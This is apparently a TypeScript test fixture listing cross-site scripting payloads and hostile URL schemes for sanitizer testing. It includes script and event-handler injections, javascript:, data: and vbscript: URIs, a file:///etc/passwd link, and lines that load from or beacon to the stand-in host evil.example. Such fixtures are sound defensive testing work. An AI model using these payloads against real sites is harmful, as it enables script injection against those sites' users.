/** Markup that would call `alert` or reach out, if any page let it: text, attribute, URL and template contexts. */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '</title><script>alert(2)</script>',
  '"><img src=x onerror=alert(3)>',
  "'><svg onload=alert(4)>",
  '" onmouseover="alert(5)" x="',
  "' autofocus onfocus='alert(6)",
  '<iframe srcdoc="<script>parent.alert(7)</script>"></iframe>',
  '<a href="javascript:alert(8)">x</a>',
  '<math><mtext></p><style><img src=x onerror=alert(9)>',
  '<img src=x onerror=alert`10`//',
  '&lt;script&gt;alert(11)&lt;/script&gt;',
  '&#x3C;img src=x onerror=alert(12)&#x3E;',
  '--><script>alert(13)</script><!--',
  ']]><script>alert(14)</script>',
  '<%= process.exit() %><% alert(15) %>',
  `\${alert(16)}{{constructor.constructor('alert(16)')()}}`,
  '<body onload=alert(17)>',
  '<form action=javascript:alert(18)><button autofocus>x</form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(19)">',
  '<base href="https://evil.example/"><script src="x.js"></script>',
  '\u202e<script>alert(21)</script>\u0000',
  '<style>*{background:url(https://evil.example/x)}</style>',
]

/** Addresses that must never become a link. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:alert(31)',
  'JaVaScRiPt:alert(32)//https://news.example',
  ' javascript:alert(33)',
  'java\nscript:alert(34)',
  'data:text/html,<script>alert(35)</script>',
  'vbscript:msgbox(36)',
  'file:///etc/passwd',
  'blob:https://news.example/37',
  '//evil.example/38',
]
